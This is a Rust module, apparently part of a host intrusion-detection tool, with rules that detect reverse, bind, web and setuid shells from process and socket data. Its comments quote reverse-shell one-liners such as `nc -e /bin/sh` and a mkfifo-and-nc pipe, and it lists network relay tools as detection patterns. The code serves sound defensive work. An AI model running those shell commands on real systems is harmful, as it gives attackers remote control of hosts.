//! Rules about shells: wired to a network connection (reverse and bind shells), started by a network
//! service (web shells), or running with another user's privileges (setuid shells).

use super::names;
use super::unread;
use crate::bytes::ByteString;
use crate::check::evidence::{Fact, of_process};
use crate::check::view::{Proc, Scene, is_socket};
use crate::check::{Out, Severity};
use crate::model::{Fd, FdKind, Socket};

fn esc(b: &[u8]) -> String {
    ByteString::new(b).escaped()
}

/// `tcp 10.0.0.5:4444 -> 10.0.0.9:51234 ESTABLISHED`.
fn socket_text(s: &Socket) -> String {
    let mut t = s.protocol.clone();
    if let Some(l) = &s.local {
        t.push_str(&format!(" {l}"));
    }
    if let Some(r) = &s.remote {
        t.push_str(&format!(" -> {r}"));
    }
    if let Some(st) = &s.state {
        t.push_str(&format!(" {st}"));
    }
    t
}

fn ip(s: &Socket) -> bool {
    matches!(s.protocol.as_str(), "tcp" | "tcp6" | "udp" | "udp6")
}

fn fd_text(f: &Fd) -> String {
    let target = f
        .target
        .as_ref()
        .map(ByteString::escaped)
        .unwrap_or_default();
    let socket = f.socket.as_ref().map(socket_text);
    let parts: Vec<&str> = [target.as_str(), socket.as_deref().unwrap_or_default()]
        .into_iter()
        .filter(|s| !s.is_empty())
        .collect();
    format!("fd {}: {}", f.fd, parts.join(" "))
}

/// A process of the scene named like a network relay that holds an IP socket.
fn relay_with_socket<'a>(p: Proc<'a>) -> Option<&'a Fd> {
    let relay = p.named(|n| {
        matches!(
            n,
            b"nc"
                | b"ncat"
                | b"netcat"
                | b"nc.openbsd"
                | b"nc.traditional"
                | b"socat"
                | b"telnet"
                | b"openssl"
        )
    });
    if !relay {
        return None;
    }
    p.fds()?.iter().find(|f| f.socket.as_ref().is_some_and(ip))
}

pub(super) fn shell_socket(scene: &Scene<'_>, out: &mut Out<'_>) {
    // Pipe and FIFO ends by inode or path, to find the other end of a shell's stdin or stdout.
    let mut ends: std::collections::HashMap<Vec<u8>, Vec<i32>> = std::collections::HashMap::new();
    for q in scene.processes() {
        for f in q.fds().unwrap_or_default() {
            if let Some(key) = pipe_key(f) {
                ends.entry(key).or_default().push(q.pid());
            }
        }
    }
    for p in scene.processes().filter(|p| p.is_user_process()) {
        if !p.named(names::is_interpreter) {
            continue;
        }
        let Some(fds) = p.fds() else {
            out.not_checked(Some(p.pid()), unread(p, "fds", "the open descriptors"));
            continue;
        };
        let shell = p.named(names::is_shell);
        let std: Vec<&Fd> = fds.iter().filter(|f| (0..=2).contains(&f.fd)).collect();
        let member = |n| of_process(scene, p.pid(), Fact::Fd(n));
        // 1. stdin, stdout or stderr is an IP socket: `bash -i >& /dev/tcp/...`, `nc -e /bin/sh`.
        let inet: Vec<&Fd> = std
            .iter()
            .copied()
            .filter(|f| f.socket.as_ref().is_some_and(ip))
            .collect();
        if !inet.is_empty() {
            let severity = if shell {
                Severity::High
            } else {
                Severity::Medium
            };
            let why = if shell {
                ""
            } else {
                "; services started by inetd or socket activation with StandardInput=socket look the same"
            };
            let first = inet[0];
            let f = out.finding(
                Some(p),
                severity,
                format!(
                    "its standard {} a network socket ({}): a reverse or bind shell{why}",
                    std_names(&inet),
                    first.socket.as_ref().map(socket_text).unwrap_or_default()
                ),
            );
            for fd in inet {
                f.evidence(member(fd.fd), fd_text(fd));
            }
            continue;
        }
        // 2. A socket whose table was not captured.
        let unknown: Vec<&Fd> = std
            .iter()
            .copied()
            .filter(|f| is_socket(f) && f.socket.is_none())
            .collect();
        // 3. stdin and stdout are the two ends of a socket pair held by its parent, a relay (`socat
        //    TCP:...  EXEC:sh`).
        let parent_relay = p
            .ppid()
            .and_then(|pp| scene.process(pp))
            .and_then(|q| relay_with_socket(q).map(|fd| (q, fd)));
        let unix_std = std
            .iter()
            .filter(|f| f.fd <= 1 && f.socket.as_ref().is_some_and(|s| s.protocol == "unix"))
            .count()
            == 2;
        if shell
            && unix_std
            && let Some((q, qfd)) = parent_relay
        {
            let f = out.finding(
                Some(p),
                Severity::High,
                format!(
                    "its standard input and output are a socket pair with its parent {} ({}), which holds {}: a reverse or bind shell",
                    q.pid(),
                    esc(q.comm().unwrap_or_default()),
                    qfd.socket.as_ref().map(socket_text).unwrap_or_default()
                ),
            );
            for fd in std.iter().filter(|f| f.fd <= 1) {
                f.evidence(member(fd.fd), fd_text(fd));
            }
            f.evidence(of_process(scene, q.pid(), Fact::Fd(qfd.fd)), fd_text(qfd));
            continue;
        }
        // 4. stdin or stdout is a pipe or FIFO whose other end is held by a relay with an IP socket
        //    (`mkfifo f; sh -i <f 2>&1 | nc host 4444 >f`).
        if shell {
            let mut piped = None;
            for fd in std.iter().filter(|f| f.fd <= 1) {
                let Some(key) = pipe_key(fd) else { continue };
                for &other in ends.get(&key).map(Vec::as_slice).unwrap_or_default() {
                    if other == p.pid() {
                        continue;
                    }
                    if let Some(q) = scene.process(other)
                        && let Some(qfd) = relay_with_socket(q)
                    {
                        piped = Some((*fd, q, qfd));
                    }
                }
            }
            if let Some((fd, q, qfd)) = piped {
                let f = out.finding(
                    Some(p),
                    Severity::High,
                    format!(
                        "its standard {} connected through {} to {} {} ({}), which holds {}: a reverse shell",
                        if fd.fd == 0 { "input is" } else { "output is" },
                        if fd.kind == FdKind::Pipe { "a pipe" } else { "a FIFO" },
                        esc(q.comm().unwrap_or_default()),
                        q.pid(),
                        fd_text(fd),
                        qfd.socket.as_ref().map(socket_text).unwrap_or_default()
                    ),
                );
                f.evidence(member(fd.fd), fd_text(fd));
                f.evidence(of_process(scene, q.pid(), Fact::Fd(qfd.fd)), fd_text(qfd));
                continue;
            }
        }
        if !unknown.is_empty() {
            let f = out.finding(
                Some(p),
                Severity::Medium,
                format!(
                    "its standard {} a socket whose endpoints are unknown (its network namespace's tables are not in the input)",
                    std_names(&unknown)
                ),
            );
            for fd in unknown {
                f.evidence(member(fd.fd), fd_text(fd));
            }
        }
    }
}

/// `input is`, `output and error are`, ...
fn std_names(fds: &[&Fd]) -> String {
    let names: Vec<&str> = fds
        .iter()
        .map(|f| match f.fd {
            0 => "input",
            1 => "output",
            _ => "error",
        })
        .collect();
    match names.as_slice() {
        [one] => format!("{one} is"),
        [rest @ .., last] => format!("{} and {last} are", rest.join(", ")),
        [] => String::new(),
    }
}

/// The identity of a pipe (`pipe:[inode]`) or FIFO (its path) end.
fn pipe_key(f: &Fd) -> Option<Vec<u8>> {
    match f.kind {
        FdKind::Pipe => f.inode.map(|i| format!("pipe:{i}").into_bytes()),
        FdKind::File => {
            // A FIFO opened by path shows as a file; its path is the identity.
            let t = f.target.as_ref()?.as_bytes();
            (f.fd <= 1 && !t.starts_with(b"/dev/")).then(|| t.to_vec())
        }
        _ => None,
    }
}

/// A command run by `sh -c`, when it is one: its text, and the program it runs.
fn dash_c(p: Proc<'_>) -> Option<(&[u8], &[u8])> {
    let argv = p.argv()?;
    let i = argv.iter().position(|a| *a == b"-c")?;
    let cmd = *argv.get(i + 1)?;
    let prog = cmd
        .split(|b| b.is_ascii_whitespace())
        .find(|w| !w.is_empty())
        .unwrap_or_default();
    Some((cmd, crate::check::view::file_name(prog)))
}

pub(super) fn service_spawned_shell(scene: &Scene<'_>, out: &mut Out<'_>) {
    for p in scene.processes().filter(|p| p.is_user_process()) {
        if !p.named(names::is_shell) {
            continue;
        }
        let Some(pp) = p.ppid() else {
            out.not_checked(Some(p.pid()), unread(p, "stat", "its parent"));
            continue;
        };
        let Some(parent) = scene.process(pp) else {
            continue;
        };
        let Some(service) = parent.names().into_iter().find(|n| names::is_service(n)) else {
            continue;
        };
        let command = out.command_text(p);
        let (severity, why) = match dash_c(p) {
            None => (
                Severity::High,
                ": a web shell or an exploited service".to_string(),
            ),
            Some((_, prog))
                if service.starts_with(b"php")
                    && matches!(prog, b"sendmail" | b"postdrop" | b"msmtp" | b"ssmtp") =>
            {
                (
                    Severity::Low,
                    "; low: PHP's mail() runs sendmail through sh -c".to_string(),
                )
            }
            Some(_) if matches!(service, b"postgres" | b"postmaster") => (
                Severity::Low,
                "; low: PostgreSQL runs archive_command and restore_command through sh -c".to_string(),
            ),
            Some(_) if matches!(service, b"node" | b"nodejs") => (
                Severity::Low,
                "; low: npm and yarn run package scripts through sh -c".to_string(),
            ),
            Some(_) => (
                Severity::Medium,
                "; services that run commands through sh -c (Jenkins builds under java, CGI) look the same"
                    .to_string(),
            ),
        };
        let kind = if dash_c(p).is_none() {
            "an interactive shell"
        } else {
            "a shell"
        };
        out.finding(
            Some(p),
            severity,
            format!(
                "{kind} ({command}) whose parent is the network service {} ({pp}){why}",
                esc(service)
            ),
        )
        .evidence(
            of_process(scene, p.pid(), Fact::Parent),
            format!("parent {pp}"),
        )
        .evidence(
            of_process(scene, pp, Fact::Comm),
            format!("{pp} is {}", esc(parent.comm().unwrap_or(service))),
        )
        .evidence(of_process(scene, p.pid(), Fact::Argv), command);
    }
}

pub(super) fn setuid_shell(scene: &Scene<'_>, out: &mut Out<'_>) {
    for p in scene.processes().filter(|p| p.is_user_process()) {
        if !p.named(names::is_shell) {
            continue;
        }
        let [uid, euid, ..] = p.uids();
        let (Some(uid), Some(euid)) = (uid, euid) else {
            out.not_checked(Some(p.pid()), unread(p, "status", "its user ids"));
            continue;
        };
        if uid == euid {
            continue;
        }
        let severity = if euid == 0 {
            Severity::High
        } else {
            Severity::Medium
        };
        out.finding(
            Some(p),
            severity,
            format!(
                "a shell running as user {euid} for user {uid}: a set-user-id copy of a shell (`bash -p`), a privilege-escalation backdoor"
            ),
        )
        .evidence(
            of_process(scene, p.pid(), Fact::Credentials),
            format!("real uid {uid}, effective uid {euid}"),
        );
    }
}
